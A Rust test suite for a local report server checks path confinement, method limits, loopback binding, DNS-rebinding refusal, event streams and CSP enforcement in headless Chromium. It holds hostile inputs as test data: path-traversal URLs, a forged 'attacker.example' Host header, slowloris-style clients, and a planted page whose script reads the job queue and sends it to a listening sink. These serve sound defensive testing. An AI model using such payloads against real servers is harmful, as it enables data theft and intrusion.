//! `pruefstand serve` through the real binary: nothing outside `reports/` (`..`, its
//! escapes, a symlink out), nothing but GET, no non-loopback address without
//! `--allow-remote`, events when the queue's files change, a clean exit on SIGTERM with
//! a stream open — and the live page in headless Chromium following a running
//! `schnell` job case by case, with no console error. Every link on every page
//! reachable from `/` (two finished `tiny` runs), followed in Chromium, answers 200;
//! the folders above a run list what is below them, newest first, with verdicts.
//!
//! `PRUEFSTAND_SCREENSHOTS=<dir>` keeps the live page's screenshots there as
//! `serve.png` (1280 px) and `serve-420.png` (how `docs/`'s are made).

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::path::PathBuf;
use std::process::{Child, Stdio};
use std::time::Duration;

use crate::common::chromium::Chromium;
use crate::common::*;

/// A running `pruefstand serve` on a free loopback port; killed on drop.
struct Serve {
    child: Child,
    /// `127.0.0.1:PORT`
    addr: String,
}

impl Serve {
    fn start(bench: &Bench, args: &[&str]) -> Serve {
        let mut all = vec!["serve", "--listen", "127.0.0.1:0"];
        all.extend_from_slice(args);
        let mut child = bench.cmd(&all).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
        let addr = line.trim().strip_prefix("http://").and_then(|a| a.strip_suffix('/'));
        let addr = addr.unwrap_or_else(|| panic!("no address printed: {line:?}")).to_string();
        Serve { child, addr }
    }

    fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.addr)
    }

    /// One request as written (the path as is: no client tidies `..` away).
    fn request(&self, method: &str, path: &str, host: Option<&str>) -> Response {
        let mut stream = TcpStream::connect(&self.addr).unwrap();
        stream.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
        let host = host.unwrap_or(&self.addr);
        write!(stream, "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nContent-Length: 0\r\n\r\n")
            .unwrap();
        let mut reader = BufReader::new(stream);
        let (status, headers) = head(&mut reader);
        let mut body = Vec::new();
        if headers.get("transfer-encoding").is_some_and(|t| t == "chunked") {
            while let Some(chunk) = next_chunk(&mut reader) {
                body.extend(chunk);
            }
        } else {
            reader.read_to_end(&mut body).unwrap();
        }
        Response { status, headers, body: String::from_utf8_lossy(&body).into_owned() }
    }

    fn get(&self, path: &str) -> Response {
        self.request("GET", path, None)
    }

    /// `/events`, open: each event as (name, data) in order.
    fn events(&self) -> Events {
        let mut stream = TcpStream::connect(&self.addr).unwrap();
        stream.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
        write!(stream, "GET /events HTTP/1.1\r\nHost: {}\r\nAccept: text/event-stream\r\n\r\n", self.addr).unwrap();
        let mut reader = BufReader::new(stream);
        let (status, headers) = head(&mut reader);
        assert_eq!(status, 200);
        assert_eq!(headers.get("content-type").map(String::as_str), Some("text/event-stream"));
        Events { reader, pending: String::new() }
    }
}

impl Drop for Serve {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

struct Response {
    status: u16,
    headers: std::collections::BTreeMap<String, String>,
    body: String,
}

/// The status line and headers (names in lower case).
fn head(reader: &mut impl BufRead) -> (u16, std::collections::BTreeMap<String, String>) {
    let mut status_line = String::new();
    reader.read_line(&mut status_line).unwrap();
    let status = status_line.split(' ').nth(1).and_then(|s| s.parse().ok());
    let status = status.unwrap_or_else(|| panic!("not an HTTP answer: {status_line:?}"));
    let mut headers = std::collections::BTreeMap::new();
    loop {
        let mut line = String::new();
        reader.read_line(&mut line).unwrap();
        let Some((name, value)) = line.trim_end().split_once(':') else { break };
        headers.insert(name.trim().to_ascii_lowercase(), value.trim().to_string());
    }
    (status, headers)
}

/// One chunk of a chunked body; None at its end (or when the connection closes).
fn next_chunk(reader: &mut impl BufRead) -> Option<Vec<u8>> {
    let mut size = String::new();
    if reader.read_line(&mut size).ok()? == 0 {
        return None;
    }
    let size = usize::from_str_radix(size.trim(), 16).ok().filter(|&n| n > 0)?;
    let mut chunk = vec![0; size + 2];
    reader.read_exact(&mut chunk).ok()?;
    chunk.truncate(size);
    Some(chunk)
}

/// A test on an event's data.
type Wanted<'a> = (&'a str, &'a dyn Fn(&serde_json::Value) -> bool);

struct Events {
    reader: BufReader<TcpStream>,
    pending: String,
}

impl Events {
    /// The next event, keep-alive comments skipped; None when the stream ends.
    fn next(&mut self) -> Option<(String, serde_json::Value)> {
        loop {
            if let Some(end) = self.pending.find("\n\n") {
                let block: String = self.pending.drain(..end + 2).collect();
                let field =
                    |name: &str| block.lines().find_map(|l| l.strip_prefix(name)).map(|v| v.trim_start().to_string());
                if let (Some(name), Some(data)) = (field("event:"), field("data:")) {
                    return Some((name, serde_json::from_str(&data).unwrap()));
                }
                continue;
            }
            let chunk = next_chunk(&mut self.reader)?;
            self.pending.push_str(&String::from_utf8_lossy(&chunk));
        }
    }

    /// Reads on until, for each (name, test), an event of that name has passed the
    /// test — in any order: the two feeds are independent (at most 120 s; keep-alive
    /// comments come every 15 s, so a quiet stream is noticed).
    fn until(&mut self, wanted: &[Wanted]) {
        let deadline = std::time::Instant::now() + Duration::from_secs(120);
        let mut met = vec![false; wanted.len()];
        let mut seen = Vec::new();
        while !met.iter().all(|m| *m) {
            assert!(std::time::Instant::now() < deadline, "timed out; seen {seen:?}");
            let Some((got, data)) = self.next() else { panic!("the stream ended; seen {seen:?}") };
            for (i, (name, test)) in wanted.iter().enumerate() {
                met[i] |= got == *name && test(&data);
            }
            seen.push((got, data));
        }
    }
}

#[test]
fn serve_caps_its_connections_and_answers_again_once_stalled_clients_leave() {
    let bench = Bench::new();
    let page = format!("<html><head></head><body>{}</body></html>", "0123456789".repeat(60_000));
    bench.write("reports/big/report.html", &page);
    let serve = Serve::start(&bench, &["--max-connections", "4"]);
    // Four clients ask for a 600 KB report and never read the answer.
    let stalled: Vec<TcpStream> = (0..4)
        .map(|_| {
            let mut stream = TcpStream::connect(&serve.addr).unwrap();
            write!(stream, "GET /reports/big/report.html HTTP/1.1\r\nHost: {}\r\n\r\n", serve.addr).unwrap();
            stream
        })
        .collect();
    // The fifth is told the server is busy, not kept waiting.
    let refused = serve.get("/");
    assert_eq!(refused.status, 503, "{}", refused.body);
    assert!(refused.body.contains("--max-connections"), "{}", refused.body);
    assert_eq!(refused.headers.get("retry-after").map(String::as_str), Some("1"));

    drop(stalled);
    // Their slots come free as the server notices the closed connections.
    wait_until("a normal answer after the stalled clients left", 30, || serve.get("/api/status").status == 200);
    let report = serve.get("/reports/big/report.html");
    assert_eq!((report.status, report.body.len()), (200, page.len()), "the whole report, streamed in chunks");
    assert!(report.body == page);
}

#[test]
fn serve_gives_nothing_outside_reports_and_takes_nothing() {
    let bench = Bench::new();
    let outside = std::fs::read_to_string(bench.path().join("pruefstand.toml")).unwrap();
    bench.write("reports/index.html", "<!DOCTYPE html><html><head><meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; script-src 'sha256-AAAA'\"></head><body>the index</body></html>");
    bench.write("reports/v/p/run/report.html", "<html><head></head><body>a report</body></html>");
    std::os::unix::fs::symlink(bench.path().join("pruefstand.toml"), bench.path().join("reports/out.toml")).unwrap();
    std::os::unix::fs::symlink(bench.path(), bench.path().join("reports/up")).unwrap();
    let serve = Serve::start(&bench, &[]);

    let index = serve.get("/reports/index.html");
    assert_eq!((index.status, index.body.contains("the index")), (200, true));
    assert_eq!(index.headers["x-content-type-options"], "nosniff");
    assert_eq!(index.headers["content-type"], "text/html; charset=utf-8");
    let csp = &index.headers["content-security-policy"];
    assert!(
        !csp.contains("sha256-AAAA") && csp.ends_with("frame-ancestors 'none'"),
        "serve's policy, not the page's: {csp}"
    );
    let run = serve.get("/reports/v/p/run");
    assert_eq!((run.status, run.headers.get("location").map(String::as_str)), (308, Some("/reports/v/p/run/")));
    bench.write("reports/v/p/run/compare.html", "<html><head></head><body>a compare page</body></html>");
    let run = serve.get("/reports/v/p/run/");
    assert!(run.status == 200, "{}", run.body);
    for page in ["report.html", "compare.html"] {
        assert!(
            run.body.contains(&format!(r#"href="/reports/v/p/run/{page}""#)),
            "a run folder lists {page}: {}",
            run.body
        );
    }
    assert!(run.headers["content-security-policy"].contains("default-src 'none'"));

    for (path, status) in [
        ("/reports/../pruefstand.toml", 400),
        ("/reports/%2e%2e/pruefstand.toml", 400),
        ("/reports/%2E%2E%2Fpruefstand.toml", 400),
        ("/reports/v/../../pruefstand.toml", 400),
        ("/reports/out.toml", 404),
        ("/reports/up/pruefstand.toml", 404),
        ("/pruefstand.toml", 404),
        ("/../pruefstand.toml", 404),
    ] {
        let answer = serve.get(path);
        assert_eq!(answer.status, status, "{path}: {}", answer.body);
        assert!(!answer.body.contains(outside.trim()), "{path} gave the file away");
        assert_eq!(answer.headers["x-content-type-options"], "nosniff", "{path}");
    }
    for (method, path) in
        [("POST", "/"), ("PUT", "/reports/index.html"), ("DELETE", "/api/queue"), ("POST", "/nowhere")]
    {
        let answer = serve.request(method, path, None);
        assert_eq!(answer.status, 405, "{method} {path}");
        assert_eq!(answer.headers["allow"], "GET, HEAD");
    }
    // A page elsewhere that points its own name at 127.0.0.1 is refused (DNS rebinding).
    assert_eq!(serve.request("GET", "/api/queue", Some("attacker.example:80")).status, 421);
    assert_eq!(serve.request("GET", "/api/queue", Some("localhost")).status, 200);

    let page = serve.get("/");
    assert_eq!(page.status, 200);
    let csp = &page.headers["content-security-policy"];
    assert!(csp.contains("script-src 'sha256-") && csp.contains("connect-src 'self'"), "{csp}");
    assert!(!csp.contains("unsafe-eval") && !csp.contains("script-src 'unsafe-inline'"), "{csp}");
    assert!(page.body.contains("EventSource(\"/events\")"));
}

#[test]
fn serve_refuses_a_non_loopback_address_unless_told_and_ends_cleanly_on_sigterm() {
    let bench = Bench::new();
    let refused = bench.run(&["serve", "--listen", "0.0.0.0:0"]).code(2);
    assert!(
        refused.stderr.contains("not a loopback address") && refused.stderr.contains("--allow-remote"),
        "{}",
        refused.stderr
    );
    let mut remote = Serve {
        child: bench
            .cmd(&["serve", "--listen", "0.0.0.0:0", "--allow-remote"])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
        addr: String::new(),
    };
    let mut line = String::new();
    BufReader::new(remote.child.stdout.take().unwrap()).read_line(&mut line).unwrap();
    assert!(line.starts_with("http://0.0.0.0:"), "{line}");
    let mut stderr = String::new();
    let sent = std::process::Command::new("kill").arg("-TERM").arg(remote.child.id().to_string()).status().unwrap();
    assert!(sent.success());
    remote.child.stderr.take().unwrap().read_to_string(&mut stderr).unwrap();
    assert_eq!(remote.child.wait().unwrap().code(), Some(0), "{stderr}");
    assert!(stderr.contains("without authentication"), "a warning: {stderr}");
}

#[test]
fn events_follow_the_queue_files_and_a_sigterm_ends_an_open_stream() {
    let bench = Bench::new();
    let mut serve = Serve::start(&bench, &[]);
    let mut events = serve.events();
    // At once: the state as it is.
    let (name, status) = events.next().unwrap();
    assert_eq!(name, "status");
    assert_eq!(
        (status["status"]["daemon"].as_str(), status["status"]["paused"].as_bool()),
        (Some("not_running"), Some(false))
    );
    let (name, jobs) = events.next().unwrap();
    assert_eq!((name.as_str(), jobs["jobs"].as_array().map(Vec::len)), ("jobs", Some(0)));
    assert_eq!(
        serve.get("/api/status").body.trim(),
        bench.run(&["status", "--json"]).ok().stdout.trim().replace(['\n', ' '], "")
    );

    // At rest, with a page's stream open, no thread of the server wakes (inotify, no
    // timer; the keep-alive comment comes every 15 s).
    std::thread::sleep(Duration::from_millis(500));
    let before = context_switches(serve.child.id());
    std::thread::sleep(Duration::from_secs(3));
    assert_eq!(context_switches(serve.child.id()), before, "the idle server woke up in 3 s");

    // Each change of the files is an event.
    bench.run(&["pause"]).ok();
    events.until(&[("status", &|s| s["status"]["paused"] == true)]);
    let id = bench.start(&["demo-kandidat", "--plan", "schnell"]);
    let pending = |j: &serde_json::Value| {
        j["jobs"][0]["id"] == id && j["jobs"][0]["state"] == "pending" && j["jobs"][0]["version"] == "demo-kandidat"
    };
    events.until(&[("jobs", &pending), ("status", &|s| s["status"]["pending"] == 1)]);
    let queue: serde_json::Value = serde_json::from_str(&serve.get("/api/queue").body).unwrap();
    assert_eq!(queue[0]["id"].as_u64(), Some(id), "/api/queue is `queue --json`");
    bench.run(&["cancel", &id.to_string()]).ok();
    events.until(&[("jobs", &|j| j["jobs"][0]["state"] == "cancelled"), ("status", &|s| s["status"]["pending"] == 0)]);

    // SIGTERM with the stream open: the stream ends and the server exits 0.
    let sent = std::process::Command::new("kill").arg("-TERM").arg(serve.child.id().to_string()).status().unwrap();
    assert!(sent.success());
    while events.next().is_some() {}
    let mut status = None;
    wait_until("serve to exit", 30, || {
        status = serve.child.try_wait().unwrap();
        status.is_some()
    });
    assert_eq!(status.unwrap().code(), Some(0));
}

#[test]
fn events_notice_a_daemon_killed_without_a_word() {
    let bench = Bench::new();
    let mut daemon = bench.daemon();
    let serve = Serve::start(&bench, &[]);
    let mut events = serve.events();
    events.until(&[("status", &|s| s["status"]["daemon"] == "running" && s["status"]["state"]["state"] == "idle")]);
    // SIGKILL: the daemon publishes nothing more; only its lock closes.
    daemon.child.kill().unwrap();
    events.until(&[("status", &|s| s["status"]["daemon"] == "not_running")]);
    daemon.child.wait().unwrap();
}

/// What the live page shows: the daemon's line, the running job's cases done (-1 when
/// none runs), the events it received, its progress bar's value, the cases planned, and
/// the queue's rows.
#[derive(Debug, Clone)]
struct Shown {
    line: String,
    done: i64,
    events: i64,
    bar: i64,
    total: i64,
    rows: Vec<String>,
}

fn shown(tab: &mut crate::common::chromium::Tab) -> Shown {
    let v = tab.eval(
        "[document.getElementById('line').textContent, document.getElementById('job').hidden ? -1 : Number(document.getElementById('done').textContent), Number(document.body.getAttribute('data-events') || 0), Number(document.getElementById('bar').value), Number(document.getElementById('total').textContent), [...document.querySelectorAll('#jobs tr')].map(r => r.textContent)]",
    );
    let n = |i: usize| v[i].as_i64().unwrap_or(-1);
    let rows = v[5].as_array().unwrap().iter().filter_map(|r| r.as_str().map(str::to_string)).collect();
    Shown { line: v[0].as_str().unwrap_or("").to_string(), done: n(1), events: n(2), bar: n(3), total: n(4), rows }
}

#[test]
fn the_live_page_follows_a_running_schnell_job_in_chromium() {
    let bench = Bench::new();
    let _daemon = bench.daemon();
    let serve = Serve::start(&bench, &[]);
    let chromium = Chromium::find();
    let mut wide = chromium.tab(&serve.url("/"), 1280, 800);
    let mut narrow = chromium.tab(&serve.url("/"), 420, 800);
    // The reference first (rejected), then the candidate against it; a third job waits.
    let reference = bench.start(&["demo-baseline", "--plan", "schnell"]);
    let id = bench.start(&["demo-kandidat", "--plan", "schnell"]);
    let waiting = bench.start(&["demo-wild", "--plan", "schnell", "--priority", "-1"]);

    // The page follows the job without a reload: two looks at one open page, the
    // second shows more cases done (or the job's next run).
    let running = |s: &Shown| {
        s.line.starts_with(&format!("running job {id} "))
            && s.done > 0
            && !s.line.contains(&format!(" {0}/{0} ", s.done))
            && s.rows.len() == 3
            && s.rows[0].contains("pending")
            && s.rows[1].contains("running")
            && s.rows[2].contains("rejected")
    };
    let mut first = None;
    wait_until("the page to show the running job with cases done", 600, || {
        let now = shown(&mut wide);
        let ok = running(&now);
        first = Some(now);
        ok
    });
    let first = first.unwrap();
    let run_of = |line: &str| line.rsplit_once('[').map(|(_, r)| r.to_string());
    let mut second = None;
    wait_until("the page to show more cases done", 300, || {
        let now = shown(&mut wide);
        let ok = running(&now) && (now.done > first.done || run_of(&now.line) != run_of(&first.line));
        second = Some(now);
        ok
    });
    let second = second.unwrap();
    assert!(second.events > first.events, "more events arrived: {first:?} {second:?}");
    assert_eq!(second.done, second.bar, "the bar shows the cases done: {second:?}");
    let title = wide.eval("document.getElementById('job-title').textContent");
    assert_eq!(title.as_str(), Some(format!("job {id}: demo-kandidat on schnell").as_str()));
    // The finished job links its report, and the server serves it.
    let href = report_link(&mut wide, reference);
    assert!(href.starts_with("/reports/demo-baseline/schnell/") && href.ends_with("/report.html"), "{href}");
    let page = serve.get(&href);
    assert!(page.status == 200 && page.body.contains("demo-baseline"), "{}", page.status);

    // The narrow page: the same, and nothing wider than the window.
    wait_until("the narrow page to show the running job", 120, || running(&shown(&mut narrow)));
    let widths = narrow.eval("[document.documentElement.scrollWidth, window.innerWidth]");
    assert!(widths[0].as_u64() <= widths[1].as_u64(), "the page is wider than 420 px: {widths}");
    if let Some(dir) = std::env::var_os("PRUEFSTAND_SCREENSHOTS").map(PathBuf::from) {
        // A third of the way in reads better than the first case.
        wait_until("a third of the cases", 300, || {
            let now = shown(&mut wide);
            running(&now) && now.done * 3 >= now.total && shown(&mut narrow).done * 3 >= now.total
        });
        wide.screenshot(&dir.join("serve.png"));
        narrow.screenshot(&dir.join("serve-420.png"));
    }
    assert_eq!(narrow.errors(), Vec::<String>::new(), "no console errors at 420 px");
    drop(narrow);

    // Done: the verdict and a link to the report.
    bench.run(&["cancel", &waiting.to_string()]).ok();
    bench.wait_job(id, "done", 600);
    // The page learns of the verdict by its own next update, after the job file says
    // done: wait for the row itself.
    wait_until(&format!("the page to show job {id} approved"), 120, || {
        let row = wide.eval(&format!("(function(r){{return r&&r.textContent}})({ROW_OF}({id}))"));
        row.as_str().is_some_and(|r| r.contains("approved"))
    });
    let href = report_link(&mut wide, id);
    assert!(href.starts_with("/reports/demo-kandidat/schnell/") && href.ends_with("/report.html"), "{href}");
    assert_eq!(serve.get(&href).status, 200);
    assert_eq!(wide.errors(), Vec::<String>::new(), "no console errors");
}

/// A JavaScript function: the queue's row of a job id.
const ROW_OF: &str =
    "(function(id){return [...document.querySelectorAll('#jobs tr')].find(r=>r.firstChild.textContent===String(id))})";

/// Waits until the page links job `id`'s report; the link.
fn report_link(tab: &mut crate::common::chromium::Tab, id: u64) -> String {
    let mut href = serde_json::Value::Null;
    wait_until(&format!("the page to link job {id}'s report"), 120, || {
        href = tab.eval(&format!(
            "(function(r){{var a=r&&r.querySelector('a');return a&&a.getAttribute('href')}})({ROW_OF}({id}))"
        ));
        !href.is_null()
    });
    href.as_str().unwrap().to_string()
}

/// The URLs of the links a user can see on the tab's page once it has loaded (and, on
/// the live page, once its script has had the first feed), fragments dropped.
fn visible_links(tab: &mut crate::common::chromium::Tab, url: &str) -> Vec<String> {
    tab.call("Page.navigate", serde_json::json!({ "url": url }));
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    loop {
        let ready = tab.eval(&format!("document.readyState==='complete' && location.href==={url:?}"));
        if ready == true {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "{url} did not load");
        std::thread::sleep(Duration::from_millis(100));
    }
    // The live page fills its links from the event stream: give it a moment.
    if tab.eval("location.pathname") == "/" {
        std::thread::sleep(Duration::from_secs(2));
    }
    let links = tab.eval(
        "[...document.querySelectorAll('a[href]')].filter(a=>a.getClientRects().length>0).map(a=>{var h=a.getAttribute('href');try{var u=new URL(h,document.baseURI);u.hash='';return u.href}catch(e){return 'invalid: '+h}})",
    );
    links.as_array().unwrap().iter().map(|l| l.as_str().unwrap().to_string()).collect()
}

#[test]
fn every_link_on_every_page_answers_and_reports_lists_the_newest_run_first() {
    let bench = Bench::new();
    let plan = bench.write("tiny.toml", TINY_PLAN);
    let plan = plan.to_str().unwrap();
    // Four cases decide nothing: exit 11, inconclusive, with a report all the same.
    let older = bench.run(&["run", "demo-kandidat", "--plan", plan]).code(11).run_dir();
    let newer = bench.run(&["run", "demo-kandidat", "--plan", plan]).code(11).run_dir();
    let serve = Serve::start(&bench, &[]);

    // A plan's folder lists its runs, newest first, each with its verdict.
    let plan_folder = newer.parent().unwrap();
    let plan_url = format!("/reports/{}/", plan_folder.strip_prefix(bench.path().join("reports")).unwrap().display());
    let listing = serve.get(&plan_url);
    assert_eq!(listing.status, 200, "{plan_url}: {}", listing.body);
    let name = |run: &PathBuf| format!(">{}/</a>", run.file_name().unwrap().to_str().unwrap());
    let (at_new, at_old) = (listing.body.find(&name(&newer)), listing.body.find(&name(&older)));
    assert!(at_new.is_some() && at_old.is_some() && at_new < at_old, "newest run first: {}", listing.body);
    let verdict: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(newer.join("judgement.json")).unwrap()).unwrap();
    let verdict = verdict["verdict"].as_str().unwrap();
    assert!(listing.body.contains(&format!(">{verdict}</span>")), "the verdict shown: {}", listing.body);
    let top = serve.get("/reports/");
    assert!(top.body.contains(">demo-kandidat/</a>"), "reports/ lists the versions: {} {}", top.status, top.body);

    // From the live page, every link of every page reached, as a user would click.
    let chromium = Chromium::find();
    let origin = serve.url("");
    let mut tab = chromium.tab("about:blank", 1280, 900);
    let mut todo = vec![serve.url("/")];
    let mut seen = std::collections::BTreeSet::new();
    let mut pages = 0;
    while let Some(url) = todo.pop() {
        if !seen.insert(url.clone()) {
            continue;
        }
        assert!(seen.len() < 200, "more links than a bench of two runs has: {seen:?}");
        let path = url.strip_prefix(&origin).unwrap();
        let answer = serve.get(path);
        assert_eq!(answer.status, 200, "{path} (linked from a page of serve's): {}", answer.body);
        if !answer.headers.get("content-type").is_some_and(|t| t.starts_with("text/html")) {
            continue;
        }
        pages += 1;
        for link in visible_links(&mut tab, &url) {
            assert!(!link.starts_with("invalid:"), "{url} links to {link}");
            if link.starts_with(&origin) && !seen.contains(&link) {
                todo.push(link);
            }
        }
    }
    assert!(seen.contains(&serve.url("/reports/")), "{seen:?}");
    assert!(
        seen.iter().any(|u| u.ends_with(&format!("{}/", newer.file_name().unwrap().to_str().unwrap()))),
        "{seen:?}"
    );
    assert!(pages >= 5, "the live page, reports/, a version, a plan and a run at least: {seen:?}");
    assert_eq!(tab.errors(), Vec::<String>::new(), "no console errors on the way");
}

#[test]
fn a_page_under_reports_cannot_widen_the_policy_to_read_the_queue_and_send_it_away() {
    let bench = Bench::new();
    let sink = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    sink.set_nonblocking(true).unwrap();
    let sink_addr = sink.local_addr().unwrap();
    // What a copied run folder could carry: a page that declares a wide-open policy.
    let page = format!(
        r#"<!DOCTYPE html><html><head><meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'; connect-src *"><title>untouched</title></head><body><script>document.title='ran';fetch('/api/queue').then(function(r){{return r.text()}}).then(function(t){{document.title='read';return fetch('http://{sink_addr}/leak?q='+encodeURIComponent(t),{{mode:'no-cors'}})}}).then(function(){{document.title='sent'}},function(e){{document.title='failed: '+e}})</script></body></html>"#
    );
    bench.write("reports/copied/run/report.html", &page);
    let serve = Serve::start(&bench, &[]);

    let answer = serve.get("/reports/copied/run/report.html");
    let csp = &answer.headers["content-security-policy"];
    assert!(!csp.contains('*') && !csp.contains("unsafe-inline'; connect") && !csp.contains("connect-src"), "{csp}");
    let chromium = Chromium::find();
    let mut tab = chromium.tab(&serve.url("/reports/copied/run/report.html"), 800, 600);
    wait_until("the page to load", 30, || tab.eval("document.readyState") == "complete");
    std::thread::sleep(Duration::from_secs(3));
    assert_eq!(tab.eval("document.title"), "untouched", "the page's own script ran");
    assert!(sink.accept().is_err(), "the page reached another port");
    let errors = tab.errors();
    assert!(errors.iter().any(|e| e.contains("Content Security Policy")), "no violation reported: {errors:?}");
}

#[test]
fn silent_and_trickling_clients_hold_no_slot_past_the_idle_limit() {
    use std::sync::atomic::{AtomicBool, Ordering};
    let bench = Bench::new();
    let serve = Serve::start(&bench, &["--max-connections", "64"]);
    // 32 connections that send nothing, 32 that send a request head one line every 5 s.
    let silent: Vec<TcpStream> = (0..32).map(|_| TcpStream::connect(&serve.addr).unwrap()).collect();
    let trickling: Vec<TcpStream> = (0..32)
        .map(|_| {
            let mut stream = TcpStream::connect(&serve.addr).unwrap();
            write!(stream, "GET /api/queue HTTP/1.1\r\n").unwrap();
            stream
        })
        .collect();
    wait_until("the 64 slots taken", 10, || serve.get("/api/status").status == 503);
    let stop = std::sync::Arc::new(AtomicBool::new(false));
    let trickle = {
        let stop = stop.clone();
        std::thread::spawn(move || {
            let mut trickling = trickling;
            while !stop.load(Ordering::Relaxed) {
                for stream in &mut trickling {
                    let _ = write!(stream, "X-Slow: 1\r\n");
                }
                std::thread::sleep(Duration::from_secs(5));
            }
        })
    };
    wait_until("an answer while the 64 are still connected", 90, || serve.get("/api/status").status == 200);
    stop.store(true, Ordering::Relaxed);
    trickle.join().unwrap();
    drop(silent);
}
